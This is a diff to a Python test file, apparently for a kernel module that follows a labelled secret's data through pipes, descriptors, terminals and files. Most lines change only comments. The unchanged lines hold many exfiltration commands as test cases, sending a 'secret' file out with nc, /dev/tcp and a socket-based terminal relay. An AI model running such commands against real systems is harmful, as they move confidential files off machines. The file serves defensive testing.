@@ -56,7 +56,7 @@ request.sendall(open("secret", "rb").read())
 socket.create_connection(("10.77.0.2", 9)).sendall(request.recv(32))
 """
 
-# As sshd does: one process reads what a program shows on its terminal, and has a connection.
+# Does as sshd does: one process reads a program's terminal output, and has a connection.
 REMOTE_LOGIN = """
 import os, pty, socket
 out = socket.create_connection(("10.77.0.2", 9))
@@ -69,7 +69,7 @@ try:
 except OSError:
     pass
 """
-# As a terminal in such a terminal, whose reader only writes to it.
+# A terminal inside such a terminal: its reader has no connection and writes to the outer terminal.
 REMOTE_LOGIN_TWICE = REMOTE_LOGIN.replace('"sleep 0.2; cat secret"', '"exec script -qc \'sleep 0.2; cat secret\' /dev/null"')
 
 # The first four of the clean bytes are gone when derived ones come after them.
@@ -115,7 +115,7 @@ send(event.data.to_bytes(8, "little"))
 
 
 def scripts():
-    """Name -> shell script, for what the secret shows in as it is."""
+    """Name -> shell script, for channels in which the secret arrives unchanged."""
     return {
         # Pipes.
         "pipe": "cat secret | cat | cat | nc remote 9",
@@ -148,7 +148,7 @@ def scripts():
         "inherited-file": "exec 3< secret; bash -c 'cat <&3' | nc remote 9",
         "inherited-offset": "exec 3< secret; read -r head <&3; bash -c 'read -r line <&3; echo $line > /dev/tcp/10.77.0.2/9'",
         "opened-by-proc": "exec 3< secret; cat /proc/$$/fd/3 | nc remote 9",
-        # Files that take it on.
+        # Files that take the label on.
         "renamed": "mv secret other; nc remote 9 < other",
         "linked": "ln secret other; rm secret; nc remote 9 < other",
         "linked-by-symbol": "ln -s secret other; nc remote 9 < other",
@@ -215,7 +215,7 @@ LEAKS = [Leak(name, script) for name, script in scripts().items()] + [
     Leak("pipe-to-thread-after-main", "cat secret | way reading-thread-after-main secret"),
     Leak("process-name", "way name secret", shows=exactly(SECRET + b"0")),
 ]
-# The kernel refuses to put it where it could not follow.
+# The module refuses to put data into channels that it cannot follow.
 REFUSED = [
     Leak("queue-of-system-v", relayed("sysv"), timeout=3),
     Leak("queue-of-posix", relayed("queue"), timeout=3),
